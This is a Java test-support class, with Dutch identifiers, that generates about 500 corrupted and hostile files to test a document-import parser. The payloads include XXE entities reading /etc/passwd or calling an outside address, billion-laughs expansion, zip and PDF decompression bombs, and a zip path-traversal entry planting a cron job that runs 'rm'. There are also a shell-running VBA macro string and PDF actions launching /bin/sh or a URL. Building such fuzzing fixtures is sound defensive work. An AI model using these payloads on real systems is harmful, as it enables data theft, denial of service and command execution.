package nl.kortelijnen.verslag.inlezen;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import nl.kortelijnen.bestanden.Documenten;

/** Damaged, hostile and absurd files, the same at every run: nothing here was made by anybody, all of it by this class. */
final class VijandigeBestanden {

    private static final String W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    private static final int VOL = 25 * 1024 * 1024;

    private final Random toeval = new Random(20_261_130);
    private final List<Bestand> alle = new ArrayList<>();
    private final String buiten;

    /** @param soort what is wrong with it */
    record Bestand(String soort, String naam, byte[] inhoud) {}

    /** @param buiten an address that nobody may ask anything of */
    VijandigeBestanden(String buiten) {
        this.buiten = buiten;
    }

    List<Bestand> maak() {
        String tekst = VoorbeeldTekst.van("werkconferentie.txt");
        beschadigd("docx", Documenten.docx(tekst), 130);
        beschadigd("pdf", Documenten.pdf(tekst), 150);
        beschadigd("txt", tekst.getBytes(StandardCharsets.UTF_8), 70);
        beschadigd("docx", Documenten.pptx(tekst), 20);
        beschadigd("pdf", Documenten.pdfMetWachtwoord(tekst), 20);
        beschadigd("docx", Documenten.docxMetWachtwoord(tekst), 20);
        xml();
        zips();
        pdfs();
        teksten();
        return alle;
    }

    private void erbij(String soort, String naam, byte[] inhoud) {
        alle.add(new Bestand(soort, naam, inhoud));
    }

    private void beschadigd(String uitgang, byte[] goed, int aantal) {
        for (int nummer = 0; nummer < aantal; nummer++) {
            erbij("beschadigd " + nummer % 5, "kapot." + uitgang, beschadig(goed, nummer % 5));
        }
    }

    private byte[] beschadig(byte[] goed, int hoe) {
        byte[] kapot = goed.clone();
        int plek = toeval.nextInt(kapot.length);
        int lengte = Math.min(1 + toeval.nextInt(400), kapot.length - plek);
        switch (hoe) {
            case 0 -> {
                return Arrays.copyOf(kapot, Math.max(8, plek));
            }
            case 1 -> {
                for (int keer = 0; keer < 20; keer++) {
                    int waar = 8 + toeval.nextInt(kapot.length - 8);
                    kapot[waar] ^= (byte) (1 << toeval.nextInt(8));
                }
            }
            case 2 -> Arrays.fill(kapot, Math.max(8, plek), Math.max(8, plek + lengte), (byte) 0);
            case 3 -> {
                byte[] dubbel = Arrays.copyOf(kapot, kapot.length + lengte);
                System.arraycopy(kapot, plek, dubbel, kapot.length, lengte);
                return dubbel;
            }
            default -> {
                byte[] ruis = new byte[lengte];
                toeval.nextBytes(ruis);
                System.arraycopy(ruis, 0, kapot, plek, lengte);
            }
        }
        return kapot;
    }

    private void xml() {
        String alinea = "<w:p><w:r><w:t>Bel liever te vroeg.</w:t></w:r></w:p>";
        String lach = "<!DOCTYPE x [<!ENTITY a0 'lol'>"
                + "<!ENTITY a1 '&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;'>"
                + "<!ENTITY a2 '&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;'>]>";
        String haalt = "<!DOCTYPE x [<!ENTITY uit SYSTEM '" + buiten + "/geheim'><!ENTITY % ook SYSTEM '" + buiten
                + "/dtd'> %ook;]>";
        String leest = "<!DOCTYPE x [<!ENTITY uit SYSTEM 'file:///etc/passwd'>]>";
        for (String deel :
                List.of("word/document.xml", "word/styles.xml", "word/numbering.xml", "word/footnotes.xml")) {
            for (String hoofd : List.of(lach, haalt, leest, "<!DOCTYPE x SYSTEM '" + buiten + "/x.dtd'>")) {
                String inhoud = hoofd + "<w:document " + W + "><w:body>" + alinea
                        + "<w:p><w:r><w:t>&uit;&a2;</w:t></w:r></w:p></w:body></w:document>";
                erbij("entiteit in " + deel, "x.docx", docx(deel, inhoud, document(alinea)));
            }
        }
        String diep = "<w:tbl><w:tr><w:tc>".repeat(20_000) + alinea + "</w:tc></w:tr></w:tbl>".repeat(20_000);
        erbij("diep genest", "x.docx", docx("word/document.xml", document(diep), null));
        erbij("niet gesloten", "x.docx", docx("word/document.xml", "<w:document " + W + "><w:body>" + alinea, null));
        erbij("leeg document", "x.docx", docx("word/document.xml", "", null));
        erbij("alleen een wortel", "x.docx", docx("word/document.xml", document(""), null));
        erbij(
                "lange alinea",
                "x.docx",
                docx("word/document.xml", document(alinea.replace("vroeg", "v".repeat(4_000_000))), null));
        erbij("veel alinea's", "x.docx", docx("word/document.xml", document(alinea.repeat(60_000)), null));
        erbij("macro", "x.docx", docx("word/vbaProject.bin", "Sub AutoOpen() Shell \"rm\" End Sub", document(alinea)));
        erbij(
                "sjabloon van buiten",
                "x.docx",
                docx(
                        "word/_rels/settings.xml.rels",
                        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + "<Relationship Id=\"r1\" Type=\"attachedTemplate\" TargetMode=\"External\" Target=\""
                                + buiten + "/sjabloon.dotm\"/></Relationships>",
                        document(alinea)));
        for (String tekenset : List.of("UTF-16", "x-onbekend", "EBCDIC-CP-NL", "UTF-7", "")) {
            String kop = "<?xml version=\"1.0\" encoding=\"" + tekenset + "\"?>";
            erbij("tekenset " + tekenset, "x.docx", docx("word/document.xml", kop + document(alinea), null));
        }
        erbij("stuurtekens", "x.docx", docx("word/document.xml", document("<w:p>\u0000\u0001&#0;&#x1F;</w:p>"), null));
    }

    private static String document(String inhoud) {
        return "<w:document " + W + "><w:body>" + inhoud + "</w:body></w:document>";
    }

    private static byte[] docx(String deel, String inhoud, String document) {
        return zip(zip -> {
            zet(zip, deel, inhoud.getBytes(StandardCharsets.UTF_8));
            if (document != null && !deel.equals("word/document.xml")) {
                zet(zip, "word/document.xml", document.getBytes(StandardCharsets.UTF_8));
            }
        });
    }

    private void zips() {
        erbij("zipbom", "bom.docx", zip(zip -> bom(zip, "word/document.xml", 330)));
        erbij("zipbom ernaast", "bom.docx", zip(zip -> {
            zet(zip, "word/document.xml", document("<w:p/>").getBytes(StandardCharsets.UTF_8));
            bom(zip, "word/media/foto.png", 330);
        }));
        erbij("te veel delen", "x.docx", zip(zip -> {
            for (int nummer = 0; nummer < 6_000; nummer++) {
                zet(zip, "word/deel" + nummer + ".xml", new byte[0]);
            }
        }));
        erbij("paden naar buiten", "x.docx", zip(zip -> {
            zet(zip, "../../../etc/cron.d/x", "* * * * * rm".getBytes(StandardCharsets.UTF_8));
            zet(zip, "/word/document.xml", document("<w:p/>").getBytes(StandardCharsets.UTF_8));
        }));
        erbij("zip in zip", "x.docx", zip(zip -> zet(zip, "word/document.xml", Documenten.docx("Hallo"))));
        erbij("lege zip", "x.docx", zip(zip -> {}));
        erbij("alleen een kop", "x.docx", new byte[] {'P', 'K', 3, 4});
        erbij("ole zonder inhoud", "x.docx", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 0, 0, 0, 0});
        erbij("25 MB zip van ruis", "x.docx", ruis(new byte[] {'P', 'K', 3, 4}));
        erbij("25 MB pdf van ruis", "x.pdf", ruis("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII)));
    }

    private byte[] ruis(byte[] begin) {
        byte[] vol = new byte[VOL];
        toeval.nextBytes(vol);
        System.arraycopy(begin, 0, vol, 0, begin.length);
        return vol;
    }

    private void pdfs() {
        String kop = "%PDF-1.7\n";
        for (String lijf : List.of(
                "",
                "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj trailer<</Root 1 0 R>>",
                "1 0 obj<</Type/Catalog/Pages 1 0 R>>endobj trailer<</Root 1 0 R/Size 999999999>>",
                "1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('" + buiten
                        + "'))>>>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj trailer<</Root 1 0 R>>",
                "1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)>>>>endobj trailer<</Root 1 0 R>>",
                "1 0 obj" + "[".repeat(50_000) + "endobj trailer<</Root 1 0 R>>",
                "1 0 obj<<" + "/A<<".repeat(50_000) + "endobj trailer<</Root 1 0 R>>",
                "xref\n0 999999999\n trailer<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF",
                "1 0 obj<</Length 999999999>>stream\nx\nendstream endobj trailer<</Root 1 0 R>>")) {
            erbij("pdf met de hand", "x.pdf", (kop + lijf + "\n%%EOF").getBytes(StandardCharsets.ISO_8859_1));
        }
        erbij("pdf met een bom", "bom.pdf", pdfbom());
    }

    /** A page whose drawing is 200 MB of blanks, packed into almost nothing. */
    private static byte[] pdfbom() {
        byte[] ingepakt = pak(new byte[1024 * 1024], 200);
        ByteArrayOutputStream uit = new ByteArrayOutputStream();
        uit.writeBytes(("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
                        + "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
                        + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
                        + "4 0 obj<</Filter/FlateDecode/Length " + ingepakt.length + ">>stream\n")
                .getBytes(StandardCharsets.ISO_8859_1));
        uit.writeBytes(ingepakt);
        uit.writeBytes("\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF".getBytes(StandardCharsets.ISO_8859_1));
        return uit.toByteArray();
    }

    private static byte[] pak(byte[] blok, int keer) {
        Deflater inpakker = new Deflater(Deflater.BEST_SPEED);
        ByteArrayOutputStream uit = new ByteArrayOutputStream();
        byte[] emmer = new byte[64 * 1024];
        Arrays.fill(blok, (byte) ' ');
        for (int nummer = 0; nummer < keer; nummer++) {
            inpakker.setInput(blok);
            while (!inpakker.needsInput()) {
                uit.write(emmer, 0, inpakker.deflate(emmer));
            }
        }
        inpakker.finish();
        while (!inpakker.finished()) {
            uit.write(emmer, 0, inpakker.deflate(emmer));
        }
        inpakker.end();
        return uit.toByteArray();
    }

    private void teksten() {
        for (String set : List.of("UTF-16LE", "UTF-16BE", "UTF-32", "windows-1252", "IBM850", "Shift_JIS")) {
            byte[] tekst = "Één ï ö — “zo” €".repeat(40).getBytes(Charset.forName(set));
            erbij("tekst in " + set, "x.txt", tekst);
            erbij("afgebroken " + set, "x.txt", Arrays.copyOf(tekst, tekst.length - 1));
        }
        erbij("alleen een merk", "x.txt", new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
        erbij(
                "omgekeerd",
                "x.md",
                ("# \u202Egnagniel\u202C\n\n- \u202Exyz\u200B\u200B".repeat(200)).getBytes(StandardCharsets.UTF_8));
        erbij("alleen accenten", "x.txt", "a\u0301\u0302\u0303".repeat(200_000).getBytes(StandardCharsets.UTF_8));
        erbij("een regel van 3 MB", "x.txt", "woord ".repeat(500_000).getBytes(StandardCharsets.UTF_8));
        erbij("een woord van 3 MB", "x.txt", "a".repeat(3_000_000).getBytes(StandardCharsets.UTF_8));
        erbij("veel lege punten", "x.md", "-\n".repeat(400_000).getBytes(StandardCharsets.UTF_8));
        erbij("veel koppen", "x.md", "# Kop\n\n".repeat(50_000).getBytes(StandardCharsets.UTF_8));
        erbij(
                "veel namen",
                "x.txt",
                "Jan de Vries en Piet Jansen praatten. ".repeat(2_000).getBytes(StandardCharsets.UTF_8));
        for (String teken : List.of("\0", " ", "a", "- ", "é")) {
            byte[] vol = teken.repeat(VOL / teken.getBytes(StandardCharsets.UTF_8).length)
                    .getBytes(StandardCharsets.UTF_8);
            erbij("25 MB van '" + teken.strip() + "'", "x.txt", vol);
        }
        CRC32 rest = new CRC32();
        while (alle.size() < 500) {
            byte[] ruis = new byte[1 + toeval.nextInt(3_000)];
            toeval.nextBytes(ruis);
            rest.update(ruis);
            erbij("ruis", rest.getValue() % 2 == 0 ? "x.txt" : "x.md", ruis);
        }
    }

    private interface Vuller {
        void vul(ZipOutputStream zip) throws IOException;
    }

    private static byte[] zip(Vuller vuller) {
        ByteArrayOutputStream uit = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(uit)) {
            zip.setLevel(Deflater.BEST_SPEED);
            vuller.vul(zip);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return uit.toByteArray();
    }

    private static void zet(ZipOutputStream zip, String naam, byte[] inhoud) throws IOException {
        zip.putNextEntry(new ZipEntry(naam));
        zip.write(inhoud);
        zip.closeEntry();
    }

    private static void bom(ZipOutputStream zip, String naam, int megabytes) throws IOException {
        zip.putNextEntry(new ZipEntry(naam));
        byte[] blok = new byte[1024 * 1024];
        for (int nummer = 0; nummer < megabytes; nummer++) {
            zip.write(blok);
        }
        zip.closeEntry();
    }
}
